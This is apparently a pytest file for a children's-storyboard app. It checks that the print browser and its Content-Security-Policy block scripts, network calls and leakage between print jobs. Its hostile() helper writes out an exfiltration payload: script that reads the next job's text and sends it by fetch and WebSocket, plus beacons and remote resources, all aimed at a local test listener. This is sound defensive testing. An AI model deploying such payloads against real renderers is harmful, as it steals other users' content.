"""The print browser shuts every door: no script, no network, nothing carried to the next job."""
import io
import re
import socket
import threading
import time

import pytest
from PIL import Image, ImageChops
from pypdf import PdfReader

from storyboard import panels, stories
from storyboard.printing import print_story

CSP = ("default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'; "
       "base-uri 'none'; form-action 'none'")


class Listener:
    """A TCP server on 127.0.0.1 that only counts who connects."""

    def __init__(self):
        self.connections = 0
        self._server = socket.create_server(("127.0.0.1", 0), backlog=50)
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self._server.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self):
        self._server.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def pdf_text(pdf):
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


def hostile(port):
    """Return HTML that tries every way out, and to reach into the job after it."""
    url = f"127.0.0.1:{port}"
    spy = (f"setInterval(() => {{ const d = opener.document;"
           f" new WebSocket('ws://{url}/ws?' + encodeURIComponent(d.body.innerText));"
           f" fetch('http://{url}/fetch?' + encodeURIComponent(d.body.innerText));"
           f" d.body.insertAdjacentHTML('beforeend', '<p>LEAKED</p>'); }}, 20)")
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="1;url=about:blank">
<link rel="stylesheet" href="http://{url}/style.css">
<link rel="prefetch" href="http://{url}/prefetch"><link rel="preconnect" href="http://{url}">
<style>@font-face {{ font-family: X; src: url(http://{url}/font.woff) }}
body {{ font-family: X; background: url(http://{url}/bg.png) }}</style></head><body>
<p>Job one</p>
<img src="http://{url}/photo.jpg"><iframe src="http://{url}/frame"></iframe>
<svg><image href="http://{url}/svg.png" width="10" height="10"/></svg>
<script>
document.body.insertAdjacentHTML("beforeend", "<p>SCRIPT RAN</p>");
fetch("http://{url}/fetch");
new WebSocket("ws://{url}/ws");
navigator.sendBeacon("http://{url}/beacon", "x");
new Image().src = "http://{url}/pixel";
const spy = window.open("about:blank");
spy.document.write("<script>{spy}<\\/script>");
{spy.replace("opener.document", "document")}
</script></body></html>"""


SLOW = 1200  # pages


def story_of(pages):
    return ("<!doctype html><html><head><style>@page { size: A4; margin: 0 } body { margin: 0 }"
            " section { height: 297mm; break-after: page } section:last-child "
            "{ break-after: auto }</style></head><body>"
            + "".join(f"<section>Mila woont bij oma {n}</section>" for n in range(pages))
            + "</body></html>")


def test_a_hostile_job_reaches_no_listener_and_nothing_of_the_next_job(renderer, listener):
    renderer.render(story_of(1))
    launches = renderer.launches
    first = pdf_text(renderer.render(hostile(listener.port)))
    # The next child's story, long enough (seconds) for job one's refresh timer to fire in it.
    second = pdf_text(renderer.render(story_of(SLOW)))
    time.sleep(1.5)  # time enough for any timer, refresh or socket left behind
    assert listener.connections == 0
    assert "Job one" in first[0] and not any("SCRIPT RAN" in text for text in first)
    assert second == [f"Mila woont bij oma {n}" for n in range(SLOW)]  # whole, and only its own
    assert renderer.launches == launches  # and at the first try: nothing broke the browser
    png = renderer.render(hostile(listener.port), fmt="png")
    assert Image.open(io.BytesIO(png)).format == "PNG"
    assert pdf_text(renderer.render(story_of(2))) == ["Mila woont bij oma 0", "Mila woont bij oma 1"]
    time.sleep(1.5)
    assert listener.connections == 0


@pytest.mark.browser
def test_the_print_html_alone_keeps_an_ordinary_browser_off_the_network(app, db, listener,
                                                                         browser):
    """The CSP is a door of its own: even with scripts on and no routing, nothing gets out."""
    with app.app_context():
        html = print_story(app, db, 1, fmt="html").decode()
    url = f"127.0.0.1:{listener.port}"
    html = html.replace("<body", f"""<body><img src="http://{url}/photo.jpg">
<link rel="stylesheet" href="http://{url}/style.css"><link rel="prefetch" href="http://{url}/p">
<svg><image href="http://{url}/svg.png" width="10" height="10"/></svg>
<script>document.title = "SCRIPT RAN"; fetch("http://{url}/fetch");
new WebSocket("ws://{url}/ws");</script><i""", 1)
    page = browser.new_page()  # pytest-playwright's browser: one event loop for the session
    try:
        page.set_content(html, wait_until="load")
        time.sleep(1)
        assert page.title() == "Het verhaal van Mila"
    finally:
        page.close()
    assert listener.connections == 0


def test_every_print_template_carries_the_policy(app, client, auth, db):
    from flask import render_template
    with app.app_context():
        book = print_story(app, db, 1, fmt="html").decode()
    with app.test_request_context():
        story = stories.get(db, 1)
        plan = render_template("print/plan.html", story=story, labels={}, plan={})
        record = render_template("print/record.html", story=story, decisions=[], comments=[],
                                 numbers={})
    for html in (book, plan, record):
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert policy and policy.group(1) == CSP
        assert html.index("Content-Security-Policy") < html.index("<style")  # before it all


def test_the_policy_leaves_the_printed_book_unchanged(app, auth, db, renderer):
    """Fonts are the system's and pictures inline, so the policy changes no pixel."""
    from tests.test_print_headers import panel_with_photo
    panel_with_photo(auth, db)
    panels.add(db, 1, stories.get(db, 1)["version"],
               {"caption": "Mila woont bij oma.", "section": "safety", "picture": "grandmother"}, 1)
    with app.app_context():
        html = print_story(app, db, 1, fmt="html").decode()
    assert "data:image/png;base64," in html  # the photo's outline travels inside the page
    without = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert without != html
    shots = [Image.open(io.BytesIO(renderer.render(h, fmt="png"))).convert("RGB")
             for h in (html, without)]
    assert shots[0].size == shots[1].size
    assert ImageChops.difference(*shots).getbbox() is None
